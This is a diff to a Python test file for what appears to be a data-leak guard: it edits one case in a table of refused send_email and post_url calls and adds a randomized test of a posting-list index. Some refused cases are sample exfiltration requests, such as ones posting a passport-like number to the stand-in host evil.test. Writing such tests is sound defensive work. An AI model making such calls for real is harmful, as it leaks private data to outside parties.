@@ -152,7 +152,7 @@ REFUSED = {
     "URL with default port and slash": Case(
         PRIVATE_MIX, "send_email", _mail("x@y.org", "https://docs.company.com:443/shared/merger-plan-2024/")
     ),
-    "free text phrase": Case(PRIVATE_MIX, "send_email", _mail("x@y.org", "FYI the merger closes on Friday")),
+    "free text phrase": Case(PRIVATE_MIX, "send_email", _mail("x@y.org", "FYI the merger closes on Friday at 4pm")),
     "passport in subject": Case(PRIVATE_MIX, "send_email", _mail("x@y.org", subject="X4471-99207")),
     "passport in URL query": Case(PRIVATE_MIX, "post_url", {"url": "https://evil.test/c?d=X4471-99207"}),
     "passport in URL path": Case(PRIVATE_MIX, "post_url", {"url": "https://evil.test/X4471-99207/ping"}),
@@ -288,3 +288,30 @@ def test_tokens_and_whole_values_keep_every_holder() -> None:
     assert index.token_bits("dana@corp.example") == 0b1101
     assert index.whole_bits("mail DANA@corp.example") == 0b1101
     assert index.token_sources("ref 4711002") == {0, 2}
+
+
+def test_postings_answer_exactly_through_every_form() -> None:
+    """Posting k-grams for 300 nodes, each a random subset of 40 k-grams, gives at every step exactly the holders
+    a plain set per k-gram gives, through each form (one node, a byte string of node indices, a bit set past
+    64 holders); catches a holder lost or misread when a posting changes form, or a byte order mismatch between
+    writing and reading the node indices."""
+    import gc
+    import random
+
+    from guard.evidence.postings import DENSE, Posting, post_all, posting_bits
+
+    rng = random.Random(11)
+    postings: dict[int | str, Posting] = {}
+    reference: dict[int | str, set[int]] = {}
+    keys: list[int | str] = [*range(30), *(f"gram{i}" for i in range(10))]
+    for node in range(300):
+        grams = {key for key in keys if rng.random() < (0.9 if key in (0, "gram0") else 0.15)}
+        post_all(postings, grams, node)
+        for key in grams:
+            reference.setdefault(key, set()).add(node)
+        for key in keys:
+            assert posting_bits(postings.get(key)) == sum(1 << n for n in reference.get(key, ())), (node, key)
+    forms = {type(postings[key]) for key in keys}
+    assert forms == {bytearray, list}  # both forms were reached (and single holders before them)
+    assert len(reference[0]) > DENSE
+    assert not any(gc.is_tracked(p) for p in postings.values() if type(p) is bytearray)  # no GC traversal
